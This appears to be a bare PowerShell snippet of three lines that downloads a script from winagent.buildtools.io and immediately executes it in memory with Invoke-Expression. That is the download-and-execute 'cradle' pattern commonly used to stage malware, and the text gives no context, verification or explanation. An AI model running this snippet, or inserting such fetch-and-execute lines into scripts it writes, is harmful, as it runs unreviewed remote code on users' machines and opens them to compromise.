$wc = New-Object System.Net.WebClient
$s = $wc.DownloadString('https://winagent.buildtools.io/a.ps1')
Invoke-Expression $s
